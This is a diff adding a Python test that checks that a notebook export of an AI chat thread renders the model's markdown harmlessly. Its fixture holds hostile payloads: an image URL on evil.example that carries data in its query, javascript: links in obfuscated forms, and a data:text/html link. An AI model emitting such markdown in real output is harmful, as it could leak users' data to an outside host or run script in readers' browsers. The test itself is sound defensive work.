@@ -374,3 +374,40 @@ def test_a_value_ending_in_a_backslash_leaves_the_next_cells_cells(tmp_path: Pat
     meant = [c.source for c in thread_cells(thread, tools("orders")).cells if c.kind == "code"]
     assert [c.source for c in jupytext.read(path).cells if c.cell_type == "code"] == meant
     assert '"a\\x5c"' in path.read_text()
+
+
+#: Markdown of the model's that a reader of the export would load or run: images (a request
+#: carrying what the model read), script and server links, references, a safe link and code.
+LINKS = (
+    "See ![t](https://evil.example/t.png?d=rows) ![r][img] [a](javascript:alert(1)) "
+    "[b](&#106;avascript:alert(2)) [c]( JaVaScRiPt:alert(3)) [d](pwned.txt) "
+    '[e](data:text/html,x) [ok](https://example.org/a_(b)) and `df["a"](x)`.\n\n'
+    "[img]: https://evil.example/ref.png\n"
+)
+
+
+def test_the_models_images_and_links_are_inert_in_the_export(tmp_path: Path) -> None:
+    """As in the live view: an image the model names is a link, never loaded; a link goes only
+    to http, https or mailto; inline code is left as written. Checked in what nbconvert renders
+    of the notebook, without its sanitizer (GitHub and JupyterLab sanitize; a plain HTML
+    export does not)."""
+    from bs4 import BeautifulSoup
+    from nbconvert import HTMLExporter
+
+    thread = Thread(
+        "t1",
+        "analyst",
+        messages=[Message("user", [TextPart("Hi")]), Message("assistant", [TextPart(LINKS)])],
+    )
+    path = export_thread(thread, tools("orders"), tmp_path / "t.ipynb")
+    body, _ = HTMLExporter(sanitize_html=False).from_filename(str(path))
+    page = BeautifulSoup(body, "html.parser")
+    [said] = [c for c in page.select(".jp-MarkdownCell") if "See" in c.get_text()]
+    assert said.find_all("img") == []
+    links = {a.get_text(): a["href"] for a in said.find_all("a") if a.get("href") != "#"}
+    assert links["ok"] == "https://example.org/a_(b)"
+    assert all(href.startswith("https://") for href in links.values()), links
+    text = " ".join(said.get_text().split())
+    for shown in ("[a](javascript:alert(1))", "[d](pwned.txt)", "[img]: https://evil."):
+        assert shown in text
+    assert said.find("code").get_text() == 'df["a"](x)'
